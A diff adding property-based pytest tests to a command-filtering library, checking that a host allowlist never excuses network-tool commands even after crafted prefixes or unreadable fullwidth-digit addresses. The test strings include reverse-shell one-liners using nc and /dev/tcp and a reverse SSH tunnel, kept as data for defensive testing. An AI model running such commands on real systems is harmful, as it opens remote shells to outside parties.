@@ -3,6 +3,8 @@ import ipaddress
 import pickle
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from safefilter import Policy, Scanner
 from safefilter.config import resolve_config
@@ -132,3 +134,20 @@ def test_policy_pickles_with_its_allowlists():
     assert again == policy
     assert again._hosts.excuses("ssh -fNR 9:localhost:22 u@10.0.0.9")
     assert again._allow_rx.fullmatch("pytest -x")
+
+
+def test_unreadable_arguments_of_network_tools_are_not_vouched_for():
+    # fullwidth digits, an over-long name: not a host we can read, so nothing to excuse by
+    assert network_targets("nc \uff12\uff10\uff13.\uff10.\uff11\uff11\uff13.\uff17 4444") == [
+        Unresolved("\uff12\uff10\uff13.\uff10.\uff11\uff11\uff13.\uff17")]
+    assert not HostAllowlist(["github.com"]).excuses("nc " + "a." * 200 + "com 4444 github.com")
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(list("ab.:/@#'\"\\$`{}[]-_ \n;|&0x9é") + ["github.com", "10.0.0.5", "//", "nc ", "ssh -R"]),
+                max_size=30).map("".join))
+def test_nothing_before_an_attack_line_excuses_it(prefix):
+    allow = HostAllowlist(["github.com", ".example.com", "10.0.0.0/8"])
+    network_targets(prefix)  # never raises, whatever the text
+    assert not allow.excuses(prefix + "\nnc -e /bin/sh 203.0.113.7 4444")
+    assert not allow.excuses(prefix + "\nbash -i >& /dev/tcp/$H/4444 0>&1")
